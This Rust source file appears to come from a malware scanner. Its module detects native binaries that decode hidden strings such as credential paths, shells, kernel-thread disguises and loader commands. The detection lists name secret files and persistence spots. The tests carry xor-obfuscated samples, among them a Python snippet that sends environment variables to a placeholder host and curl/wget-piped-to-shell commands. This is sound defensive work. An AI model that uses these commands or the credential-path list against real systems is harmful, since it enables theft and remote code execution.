//! Texts that a program decodes, by what they mean together.
//!
//! A program that hides a text from whoever reads it may have a reason: licence checks and anti-cheat code hide names of
//! functions, names of virtual machines and of debuggers. What nobody has an honest reason to hide is the name of a file
//! with somebody's keys, a shell, a name that looks like one of the kernel's threads, the server of log-ins; and least of all
//! two of them, or one together with the address that it is for. The texts are what [`crate::parse::trial`] saw the
//! program's own code make.
//!
//! Known uses: liblzma of xz 5.6.0 (the names of functions of sshd), stealers in packages, `BPFDoor` and its kin, loaders.
//! Honest look-alikes: security products, whose lists of such files are data.
//!
//! References: ATT&CK T1027.013, T1140, T1480.

use std::collections::HashSet;

use super::{placed, shown};
use crate::analyze::{Heuristic, Notes};
use crate::model::{Capability, Evidence, Fact, FileKind, Rule};
use crate::parse::Parsed;
use crate::parse::trial::Made;
use crate::rule;

rule! {
    /// A program decodes texts of which one is enough to ask why it is hidden: files of somebody's secrets, a shell or a
    /// command for one, a place from which programs start again, a name that looks like one of the kernel's threads,
    /// functions that start programs from memory, the server of log-ins, time zones of one country. Known uses: implants.
    /// Honest look-alikes: security products; tools that hide a command of their own from being changed.
    pub(super) HIDDEN = "native-decodes-hidden-text" in "bin/strings-encrypted";
    severity: High, confidence: Likely,
    title: "Decodes a text that nobody has a reason to hide",
    reference: "https://attack.mitre.org/techniques/T1027/013/",
}

rule! {
    /// A program decodes the names of files with somebody's secrets, and the address of a host, or several such names and
    /// the functions that it sends with: what it takes and where it goes are both hidden. Known uses: stealers in tools and
    /// packages. Honest look-alikes: none is known; backups and managers of passwords write down what they read.
    pub(super) SECRETS = "native-decodes-secret-files-and-address" in "cred/files-dev";
    severity: Critical, confidence: Certain,
    title: "Hides both which secrets it reads and where it sends them",
    reference: "https://attack.mitre.org/techniques/T1552/001/",
}

rule! {
    /// A program decodes texts of two kinds that each have no reason to be hidden: a shell and the name of a kernel's
    /// thread, functions that start programs from memory and a false name for what is started, the server of log-ins
    /// and a command. Known uses: back doors that wait for their owner (xz, `BPFDoor`), loaders without a file. Honest
    /// look-alikes: none is known.
    pub(super) DEEDS = "native-decodes-hidden-deeds" in "exec/decode-exec";
    severity: Critical, confidence: Certain,
    title: "Hides a command or a shell together with how it stays unseen",
    reference: "https://attack.mitre.org/techniques/T1140/",
}

rule! {
    /// A program decodes the name of a shell and the address of a host: a shell for somebody, and neither can be read. Known
    /// uses: reverse shells behind an argument or a date. Honest look-alikes: none is known; what starts a shell for its user
    /// says which.
    pub(super) SHELL = "native-decodes-shell-and-address" in "net/reverse-shell";
    severity: Critical, confidence: Certain,
    title: "Hides both a shell and the address that it has to do with",
    reference: "https://attack.mitre.org/techniques/T1059/004/",
}

rule! {
    /// A program decodes the name of a function that fetches, and the address or the function that starts what was fetched:
    /// a loader of which nothing can be read. Known uses: first stages. Honest look-alikes: protection of licences hides
    /// names of functions, and asks its server without starting what it says.
    pub(super) LOADS = "native-decodes-fetch-and-address" in "exec/download-run";
    severity: Critical, confidence: Certain,
    title: "Hides both what fetches and what is fetched or started",
    reference: "https://attack.mitre.org/techniques/T1105/",
}

rule! {
    /// A program decodes a command that fetches and has a shell run it, and looks whether somebody debugs it. Known uses:
    /// loaders in tools and packages. Honest look-alikes: none is known; scripts that are compiled to hide them fetch in the
    /// open or look for nobody.
    pub(super) WATCHED = "native-decodes-command-unwatched" in "exec/decode-exec";
    severity: Critical, confidence: Certain,
    title: "Hides a command that fetches and runs, unless it is watched",
    reference: "https://attack.mitre.org/techniques/T1622/",
}

rule! {
    /// A program decodes whom it is meant for (the repository, the time zones of one country) and the hosts that it has to
    /// do with. Known uses: tools that take the sources of one company, covert marks of an assistant's users by country
    /// (July 2026). Honest look-alikes: none is known; what depends on a place for an honest reason names it.
    pub(super) AIMED = "native-decodes-target-and-address" in "evade/env-guard";
    severity: Critical, confidence: Certain,
    title: "Hides both whom it looks for and which hosts it has to do with",
    reference: "https://attack.mitre.org/techniques/T1480/",
}

rule! {
    /// A program, or a module of Python, decodes the source of a script of Python, and has Python run it; what it decodes opens
    /// connections or starts programs. Known uses: modules in packages whose script no scanner can read. Honest look-alikes:
    /// none is known; modules that run Python of their own carry it as it is, or compiled.
    pub(super) PYTHON = "native-decodes-python-that-reaches-out" in "exec/decode-exec";
    severity: Critical, confidence: Certain,
    title: "Decodes a script of Python that reaches out, and runs it",
    reference: "https://attack.mitre.org/techniques/T1059/006/",
}

/// Functions of Python that run, or compile, a text.
pub(super) const RUN_PYTHON: &[&str] = &[
    "PyRun_SimpleString",
    "PyRun_SimpleStringFlags",
    "PyRun_String",
    "PyRun_StringFlags",
    "Py_CompileString",
    "Py_CompileStringFlags",
    "Py_CompileStringExFlags",
    "Py_CompileStringObject",
];
/// What a script does that it has no reason to hide from whoever reads the module.
const REACHES_OUT: &[&str] =
    &["urlopen", "urllib", "requests.", "socket", "http.client", "subprocess", "os.system", "os.popen", "exec("];
/// Letters of a decoded text by which it is looked for in the file.
const BEGINNING: usize = 24;

/// A script of Python that the program decodes and that reaches out.
fn python_of<'m>(file: &'m Parsed<'_>) -> Option<&'m Made> {
    let is_script = |made: &&Made| {
        let Ok(text) = std::str::from_utf8(&made.bytes) else { return false };
        let imports = text.starts_with("import ") || text.starts_with("from ") || text.contains("\nimport ");
        imports && text.contains('\n') && REACHES_OUT.iter().any(|word| text.contains(word))
    };
    if file.images().iter().all(|image| image.imported(RUN_PYTHON).is_empty()) {
        return None;
    }
    let made = file.made().iter().find(is_script)?;
    let beginning = made.bytes.get(..made.bytes.len().min(BEGINNING))?;
    (!file.view().holds(beginning)).then_some(made)
}

/// What a text means.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    /// A file of somebody's secrets.
    Secret,
    /// A shell.
    Shell,
    /// A whole command that fetches and runs, or opens a shell on a connection.
    Command,
    /// Where programs start again.
    Kept,
    /// How a process looks like another one.
    Disguise,
    /// Functions that start a program from memory.
    Memory,
    /// The server of log-ins and what it asks whether somebody may come in.
    Login,
    /// A repository, by what git is asked for.
    Repository,
    /// A time zone.
    Zone,
    /// The address of a host.
    Address,
    /// Functions that send.
    Sends,
    /// Functions that fetch a file at once.
    Fetches,
    /// Functions that start a program.
    Starts,
}

const WORDS: &[(Kind, &str)] = &[
    (Kind::Secret, "/.ssh"),
    (Kind::Secret, ".ssh/id_"),
    (Kind::Secret, ".aws/credentials"),
    (Kind::Secret, ".kube/config"),
    (Kind::Secret, ".docker/config.json"),
    (Kind::Secret, ".git-credentials"),
    (Kind::Secret, ".netrc"),
    (Kind::Secret, ".npmrc"),
    (Kind::Secret, ".pypirc"),
    (Kind::Secret, ".gnupg"),
    (Kind::Secret, ".config/gcloud"),
    (Kind::Secret, ".config/gh/hosts"),
    (Kind::Secret, "/etc/shadow"),
    (Kind::Secret, "Login Data"),
    (Kind::Secret, "\\Local State"),
    (Kind::Secret, "Network\\Cookies"),
    (Kind::Secret, "logins.json"),
    (Kind::Secret, "key4.db"),
    (Kind::Secret, "login.keychain"),
    (Kind::Secret, "wallet.dat"),
    (Kind::Secret, "exodus.wallet"),
    (Kind::Secret, "Electrum"),
    (Kind::Secret, ".claude/"),
    (Kind::Secret, ".codex/"),
    (Kind::Secret, ".cursor/"),
    (Kind::Secret, ".gemini/"),
    (Kind::Secret, ".aider"),
    (Kind::Shell, "/bin/sh"),
    (Kind::Shell, "/bin/bash"),
    (Kind::Shell, "cmd.exe"),
    (Kind::Shell, "powershell"),
    (Kind::Kept, "CurrentVersion\\Run"),
    (Kind::Kept, "authorized_keys"),
    (Kind::Kept, "/.bashrc"),
    (Kind::Kept, "/.profile"),
    (Kind::Kept, "/etc/cron"),
    (Kind::Kept, "crontab -"),
    (Kind::Kept, "ld.so.preload"),
    (Kind::Kept, "LaunchAgents"),
    (Kind::Disguise, "/proc/self/comm"),
    (Kind::Disguise, "[kworker"),
    (Kind::Disguise, "[ksoftirqd"),
    (Kind::Disguise, "[migration"),
    (Kind::Disguise, "[kthreadd"),
    (Kind::Disguise, "[rcu_"),
    (Kind::Disguise, "[jbd2"),
    (Kind::Disguise, "HISTFILE"),
    (Kind::Memory, "memfd_create"),
    (Kind::Memory, "fexecve"),
    (Kind::Memory, "/proc/self/fd/"),
    (Kind::Login, "RSA_public_decrypt"),
    (Kind::Login, "EVP_PKEY_verify"),
    (Kind::Login, "pam_authenticate"),
    (Kind::Login, "pam_sm_authenticate"),
    (Kind::Login, "/usr/sbin/sshd"),
    (Kind::Repository, "remote.origin.url"),
    (Kind::Repository, "git@"),
    (Kind::Sends, "WinHttpSendRequest"),
    (Kind::Sends, "HttpSendRequest"),
    (Kind::Sends, "WinHttpOpen"),
    (Kind::Sends, "InternetOpen"),
    (Kind::Sends, "InternetConnect"),
    (Kind::Sends, "WSAConnect"),
    (Kind::Fetches, "URLDownloadToFile"),
    (Kind::Fetches, "URLDownloadToCacheFile"),
    (Kind::Fetches, "InternetReadFile"),
    (Kind::Fetches, "WinHttpReadData"),
    (Kind::Starts, "WinExec"),
    (Kind::Starts, "ShellExecute"),
    (Kind::Starts, "CreateProcess"),
    (Kind::Sends, "getaddrinfo"),
    (Kind::Sends, "res_query"),
];

/// Kinds of which one is enough to ask why.
const HARM: &[Kind] = &[
    Kind::Secret,
    Kind::Shell,
    Kind::Command,
    Kind::Kept,
    Kind::Disguise,
    Kind::Memory,
    Kind::Login,
    Kind::Repository,
    Kind::Zone,
];
/// Most pieces of one list that are looked at.
const PIECES_MAX: usize = 64;
/// Most words that are looked for in the file as it is.
const LOOKED_MAX: usize = 128;
/// Most texts that are shown.
const SHOWN_MAX: usize = 12;

/// Judges what a program decodes.
pub(super) struct Decoded;

impl Heuristic for Decoded {
    fn rules(&self) -> &'static [&'static Rule] {
        const { &[&HIDDEN, &SECRETS, &DEEDS, &SHELL, &AIMED, &LOADS, &WATCHED, &PYTHON] }
    }

    fn applies(&self, kind: FileKind) -> bool {
        matches!(kind, FileKind::Elf | FileKind::Pe | FileKind::MachO)
    }

    fn check(&self, file: &Parsed<'_>, out: &mut Notes) {
        let mut told: Vec<(Kind, &str, &Made, &[u8])> = Vec::new();
        let mut looked: HashSet<&str> = HashSet::new();
        for made in file.made() {
            for (kind, word) in meanings(&made.bytes) {
                // What stands in the file as it is hides nothing.
                let is_new = looked.len() < LOOKED_MAX && looked.insert(word);
                if is_new && !file.view().holds(word.as_bytes()) {
                    told.push((kind, word, made, &made.bytes));
                }
            }
        }
        if let Some(made) = python_of(file) {
            let note = format!("code at {:#x} makes: {}", made.at, shown(&made.bytes));
            out.findings.push(PYTHON.finding(placed(made.offset, 0, note)));
        }
        let count = |kind: Kind| told.iter().filter(|(k, ..)| *k == kind).count();
        let has = |kind: Kind| count(kind) > 0;
        let harm: Vec<Kind> = HARM.iter().copied().filter(|k| has(*k)).collect();
        let starts = |name: &str| file.images().iter().any(|i| !i.imported(&[name]).is_empty());
        let started = has(Kind::Starts)
            || ["WinExec", "CreateProcess", "ShellExecute", "ShellExecuteEx"].iter().any(|n| starts(n));
        let loads = has(Kind::Fetches) && has(Kind::Address) && started;
        if harm.is_empty() && !loads {
            return;
        }
        let looks = ["ptrace", "IsDebuggerPresent", "CheckRemoteDebuggerPresent"].iter().any(|n| starts(n))
            || file.view().holds(b"TracerPid");
        let piped = told.iter().any(|(k, _, _, text)| *k == Kind::Command && has_piped(text));
        let fetched =
            told.iter().any(|(k, _, _, text)| *k == Kind::Command && memchr::memmem::find(text, b"://").is_some());
        let sends = has(Kind::Address) || has(Kind::Sends);
        let acts = [Kind::Shell, Kind::Command, Kind::Memory].into_iter().any(has);
        let unseen = has(Kind::Disguise) || has(Kind::Login) || has(Kind::Kept);
        let rule = if count(Kind::Secret) > 1 && sends || has(Kind::Secret) && has(Kind::Address) {
            &SECRETS
        } else if acts && unseen || count(Kind::Login) > 1 {
            &DEEDS
        } else if has(Kind::Shell) && (has(Kind::Address) || fetched) {
            &SHELL
        } else if loads {
            &LOADS
        } else if piped && looks {
            &WATCHED
        } else if has(Kind::Address) && (count(Kind::Repository) > 1 || count(Kind::Zone) > 1) {
            &AIMED
        } else {
            &HIDDEN
        };
        let mut evidence: Vec<Evidence> = Vec::new();
        for (_, _, made, text) in told.iter().take(SHOWN_MAX) {
            out.facts.push(Fact::has(Capability::Decoded, shown(text), made.offset));
            evidence.push(placed(made.offset, 0, format!("code at {:#x} makes: {}", made.at, shown(text))));
        }
        let mut evidence = evidence.into_iter();
        if let Some(first) = evidence.next() {
            let mut finding = rule.finding(first);
            finding.evidence.extend(evidence);
            out.findings.push(finding);
        }
    }
}

/// What a text means: each meaning with the word by which it is known.
fn meanings(bytes: &[u8]) -> Vec<(Kind, &str)> {
    let Ok(text) = std::str::from_utf8(bytes) else { return Vec::new() };
    let text = text.trim();
    // Four letters come out of noise; a repository has a host behind them.
    let has_host = |word: &str| {
        let behind = text.split_once(word).map_or("", |(_, behind)| behind);
        !word.ends_with('@') || behind.contains(['.', ':'])
    };
    let mut found: Vec<(Kind, &str)> =
        WORDS.iter().copied().filter(|(_, word)| text.contains(word) && has_host(word)).collect();
    let fetches = ["curl ", "wget ", "certutil "].iter().any(|w| text.contains(w)) && text.contains("://");
    let listens = ["nc ", "ncat "].iter().any(|w| text.starts_with(w)) && text.contains("-e ");
    if text.contains("/dev/tcp/") || listens || fetches {
        found.push((Kind::Command, text));
    }
    // A list in one text; what has spaces is a sentence or a command.
    let is_list = !text.contains(char::is_whitespace);
    let pieces = text.split([',', '|', ';']).filter(|_| is_list).take(PIECES_MAX);
    for piece in pieces {
        if ["Asia/", "Europe/", "America/", "Africa/"].iter().any(|w| piece.len() > w.len() + 2 && piece.starts_with(w))
        {
            found.push((Kind::Zone, piece));
        }
        if is_address(piece) {
            found.push((Kind::Address, piece));
        }
    }
    found
}

/// Whether a command hands what it fetches to a shell.
fn has_piped(text: &[u8]) -> bool {
    let text = String::from_utf8_lossy(text);
    let end = text.rsplit_once('|').map(|(_, end)| end.trim());
    end.is_some_and(|end| {
        ["sh", "bash", "dash", "zsh", "/bin/sh", "/bin/bash"].iter().any(|s| end.split(' ').next() == Some(s))
    })
}

/// Whether a text is an address: with its scheme, a name of a host, or numbers, each with a port or without.
fn is_address(text: &str) -> bool {
    /// What ends names of files.
    const FILES: &[&str] = &[
        "dll", "exe", "so", "conf", "json", "txt", "log", "png", "sys", "url", "dat", "cfg", "ini", "xml", "html",
        "js", "py", "sh", "db", "tmp", "bin", "pub",
    ];
    if let Some((scheme, rest)) = text.split_once("://") {
        return matches!(scheme, "http" | "https" | "ws" | "wss" | "tcp" | "ftp") && rest.len() > 3;
    }
    let (host, port) = text.split_once(':').map_or((text, None), |(host, port)| (host, Some(port)));
    if port.is_some_and(|port| port.is_empty() || !port.bytes().all(|b| b.is_ascii_digit())) {
        return false;
    }
    let parts: Vec<&str> = host.trim_start_matches('.').split('.').collect();
    let is_name = |part: &&str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
    if parts.len() < 2 || !parts.iter().all(is_name) {
        return false;
    }
    let is_number = |part: &&str| part.parse::<u8>().is_ok();
    if parts.len() == 4 && parts.iter().all(is_number) {
        return true;
    }
    let last = parts.last().copied().unwrap_or_default();
    let letters = last.len() >= 2 && last.bytes().all(|b| b.is_ascii_lowercase());
    letters && host.len() >= 8 && !FILES.contains(&last) && host.bytes().all(|b| !b.is_ascii_uppercase())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::native::testing::{ElfBuilder, check, ids};

    /// A key of several bytes, and one that changes with the place.
    const KEY: &[u8; 4] = b"k3Yz";

    fn hidden(text: &str) -> Vec<u8> {
        text.bytes().enumerate().map(|(i, b)| b ^ KEY[i & 3] ^ (i * 7) as u8).collect()
    }

    /// A program that calls its decoder with each of these texts.
    fn program(texts: &[&str], imports: Vec<&'static str>) -> Vec<u8> {
        // 1000: xor ecx, ecx; loop: mov eax, ecx; and eax, 3; lea r8, [rip + key]; movzx r9d, byte [r8 + rax];
        // xor r9b, [rdi + rcx]; imul eax, ecx, 7; xor r9b, al; mov [rdx + rcx], r9b; inc rcx; cmp rcx, rsi; jb loop; ret
        let mut code = vec![0x31, 0xc9, 0x89, 0xc8, 0x83, 0xe0, 0x03, 0x4c, 0x8d, 0x05];
        code.extend((ElfBuilder::DATA as u32).wrapping_sub(0x100e).to_le_bytes());
        code.extend([0x45, 0x0f, 0xb6, 0x0c, 0x00, 0x44, 0x32, 0x0c, 0x0f, 0x6b, 0xc1, 0x07, 0x41, 0x30, 0xc1]);
        code.extend([0x44, 0x88, 0x0c, 0x0a, 0x48, 0xff, 0xc1, 0x48, 0x39, 0xf1, 0x72]);
        let back = 2i64 - (code.len() as i64 + 1);
        code.push(back as u8);
        code.push(0xc3);
        while code.len() % 16 != 0 {
            code.push(0x90);
        }
        let entry = ElfBuilder::CODE + code.len() as u64;
        let mut data = KEY.to_vec();
        for text in texts {
            // lea rdi, [rip + text]; mov esi, len; lea rdx, [rsp - 0x200]; call 1000
            let at = ElfBuilder::CODE + code.len() as u64;
            code.extend([0x48, 0x8d, 0x3d]);
            code.extend((ElfBuilder::DATA + data.len() as u64).wrapping_sub(at + 7).to_le_bytes()[..4].to_vec());
            code.push(0xbe);
            code.extend((text.len() as u32).to_le_bytes());
            code.extend([0x48, 0x8d, 0x94, 0x24]);
            code.extend((-0x200i32).to_le_bytes());
            code.push(0xe8);
            code.extend(
                (ElfBuilder::CODE as u32).wrapping_sub(ElfBuilder::CODE as u32 + code.len() as u32 + 4).to_le_bytes(),
            );
            data.extend(hidden(text));
        }
        code.push(0xc3);
        let mut elf = ElfBuilder::program();
        (elf.entry, elf.code, elf.data, elf.imports) = (entry, code, data, imports);
        elf.build()
    }

    fn seen(texts: &[&str]) -> Vec<&'static str> {
        ids(&check(&Decoded, FileKind::Elf, "x", &program(texts, Vec::new())))
    }

    #[test]
    fn a_script_of_python_that_is_decoded_and_run_is_told() {
        let found = |script: &str, function: &'static str| {
            ids(&check(&Decoded, FileKind::Elf, "x", &program(&[script], vec![function])))
        };
        let script = "import os, urllib.request as u\nu.urlopen('https://h.invalid/', str(os.environ).encode())\n";
        assert_eq!(found(script, "PyRun_SimpleString"), ["native-decodes-python-that-reaches-out"]);
        assert!(found(script, "PyModule_Create2").is_empty(), "nobody runs it");
        assert!(found("import math\nprint(math.pi)\n", "PyRun_SimpleString").is_empty(), "it only computes");
    }

    #[test]
    fn what_is_hidden_is_judged_by_what_it_means_together() {
        let secrets = ["/.aws/credentials", "/.kube/config"];
        assert_eq!(
            seen(&[secrets[0], secrets[1], ".t.example-sync.invalid"]),
            ["native-decodes-secret-files-and-address"]
        );
        assert_eq!(seen(&[secrets[0], "t.example-sync.invalid"]), ["native-decodes-secret-files-and-address"]);
        assert_eq!(seen(&[secrets[0], "WinHttpSendRequest"]), ["native-decodes-hidden-text"]);
        assert_eq!(seen(&secrets), ["native-decodes-hidden-text"]);
        assert_eq!(seen(&["/proc/self/comm", "/bin/sh"]), ["native-decodes-hidden-deeds"]);
        assert_eq!(seen(&["memfd_create", "fexecve", "[kworker/u9:0]"]), ["native-decodes-hidden-deeds"]);
        assert_eq!(seen(&["/usr/sbin/sshd", "RSA_public_decrypt"]), ["native-decodes-hidden-deeds"]);
        assert_eq!(seen(&["/bin/sh", "192.0.2.44:8443"]), ["native-decodes-shell-and-address"]);
        let command = "curl -s http://192.0.2.44/u";
        assert_eq!(seen(&["/bin/sh", command]), ["native-decodes-shell-and-address"]);
        let aimed = ["Asia/Tokyo", "Asia/Osaka", "gateway.example.invalid"];
        assert_eq!(seen(&aimed), ["native-decodes-target-and-address"]);
        assert_eq!(seen(&["gw.example.invalid,api.example.invalid|Asia/Tokyo,Asia/Osaka"]), seen(&aimed));
    }

    #[test]
    fn hidden_loaders_are_told_and_hidden_licence_servers_are_not() {
        let texts = ["URLDownloadToFileA", "https://files.example.invalid/a.bin", "WinExec"];
        assert_eq!(seen(&texts), ["native-decodes-fetch-and-address"]);
        assert!(seen(&texts[..2]).is_empty() && seen(&texts[1..]).is_empty());
        let command = "curl -s https://files.example.invalid/a | sh";
        assert_eq!(seen(&[command]), ["native-decodes-hidden-text"]);
        assert!(has_piped(command.as_bytes()) && has_piped(b"wget -qO- http://a.invalid/b |bash -s x"));
        assert!(!has_piped(b"curl -s https://files.example.invalid/a | tar xz") && !has_piped(b"sh a.sh"));
    }

    #[test]
    fn names_of_functions_machines_and_hosts_alone_are_nothing() {
        assert!(seen(&["IsDebuggerPresent", "VMware", "licence.example.invalid"]).is_empty());
        assert!(seen(&["a text like any other"]).is_empty());
        assert!(seen(&["igit@"]).is_empty() && !seen(&["git@forge.example.invalid:acme/"]).is_empty());
        // The same words, written down.
        let mut elf = ElfBuilder::program();
        elf.data = b"/.aws/credentials\0/.kube/config\0t.example-sync.invalid\0".to_vec();
        assert!(check(&Decoded, FileKind::Elf, "x", &elf.build()).findings.is_empty());
    }

    #[test]
    fn addresses_are_told_from_names_of_files() {
        for yes in
            ["https://a.invalid/x", "cdn.example.invalid", "192.0.2.7:443", ".q.example.invalid", "a.example.com:80"]
        {
            assert!(is_address(yes), "{yes}");
        }
        for no in ["kernel32.dll", "libc.so", "remote.origin.url", "a b.c", "1.2.3", "::1", "Package.Class", "x.y:"] {
            assert!(!is_address(no), "{no}");
        }
    }
}
